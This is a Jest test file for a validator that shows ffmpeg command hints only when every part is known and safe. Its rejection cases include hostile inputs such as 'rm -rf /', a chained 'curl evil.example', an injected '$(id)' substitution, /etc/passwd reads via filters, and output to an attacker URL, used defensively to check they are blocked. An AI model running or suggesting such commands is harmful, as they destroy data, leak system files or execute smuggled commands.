import { knowledge } from '../knowledge/knowledge';
import { checkedHint } from './ffmpeg-hint';

describe('a suggested command', () => {
  it.each([
    'ffmpeg -i INPUT -af loudnorm=I=-23:TP=-1:LRA=15 -c:v copy OUTPUT',
    'ffmpeg -i INPUT -map 0 -c copy -movflags +faststart OUTPUT',
    'ffmpeg -i INPUT -vf "scale=1920:1080,setsar=1" -c:v libx264 -preset slow -crf 18 -b:a 192k OUTPUT',
    ...knowledge.flatMap(({ ffmpegHint }) => ffmpegHint ?? []),
  ])('is shown when all of it is known: %s', (command) => {
    expect(checkedHint(command)).not.toBeNull();
  });

  it.each([
    ['another program', 'rm -rf / OUTPUT'],
    ['a shell', 'ffmpeg -i INPUT -c copy OUTPUT; curl evil.example'],
    ['a substitution', 'ffmpeg -i INPUT -metadata title=$(id) OUTPUT'],
    ['a file of its own', 'ffmpeg -i /etc/passwd -c copy OUTPUT'],
    ['a second input', 'ffmpeg -i INPUT -i INPUT -c copy OUTPUT'],
    ['no input', 'ffmpeg -c copy OUTPUT'],
    ['a device', 'ffmpeg -f lavfi -i INPUT OUTPUT'],
    ['a filter that opens a file', 'ffmpeg -i INPUT -vf movie=/etc/passwd OUTPUT'],
    ['a file in a filter', 'ffmpeg -i INPUT -vf scale=1920:1080,subtitles=/etc/passwd OUTPUT'],
    ['a protocol', 'ffmpeg -i INPUT -c copy http://evil.example'],
    ['an unknown option', 'ffmpeg -i INPUT -filter_complex_script x OUTPUT'],
    ['an option from the prototype', 'ffmpeg -i INPUT constructor x OUTPUT'],
    ['an option without its value', 'ffmpeg -i INPUT -crf OUTPUT'],
  ])('with %s is not', (_what, command) => {
    expect(checkedHint(command)).toBeNull();
  });
});
